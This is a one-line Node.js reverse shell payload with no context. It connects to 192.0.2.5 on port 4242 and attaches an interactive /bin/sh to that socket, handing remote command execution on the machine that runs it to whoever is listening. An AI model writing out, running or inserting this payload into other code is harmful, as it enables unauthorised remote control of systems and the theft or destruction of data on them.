const net=require('net');const {spawn}=require('child_process');const s=net.connect(4242,'192.0.2.5');spawn('/bin/sh',['-i'],{stdio:[s,s,s]});
